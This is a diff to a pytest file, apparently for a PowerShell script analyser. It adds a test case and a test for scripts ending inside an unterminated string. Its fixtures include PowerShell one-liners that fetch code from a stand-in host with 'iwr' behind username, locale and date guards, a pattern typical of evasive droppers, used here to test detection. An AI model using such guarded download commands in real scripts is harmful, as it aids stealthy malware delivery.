@@ -132,6 +132,7 @@ def test_ways_to_start_a_program(text):
         "if($env:USERNAME -eq 'somebody'){iwr http://a.example.test/x}",
         "if((Get-Culture).Name -eq 'it-IT'){iwr http://a.example.test/x}else{exit}",
         "if((Get-Date).Year -gt 2030){exit};iwr http://a.example.test/x",
+        "if ((Get-Date).Ticks -lt (Get-Date -Date '18-jan-2017 00:00:00').Ticks) {iwr http://a.example.test/x};",
     ],
 )
 def test_guards_do_not_hide_what_comes_behind(text):
@@ -188,3 +189,11 @@ def test_guards_do_not_hide_what_comes_behind(text):
 )  # fmt: skip
 def test_values(expression, result):
     assert value(expression) == result
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [("$a='x';$key='abc", ["cut off"]), ('$a="x";$key="abc', ["cut off"]), ("$a='x';$key='abc'", []), ("Write-Host don't\nexit", [])],
+)
+def test_a_script_that_ends_inside_a_text(text, said):
+    assert [problem.name for problem in run(text).problems] == said
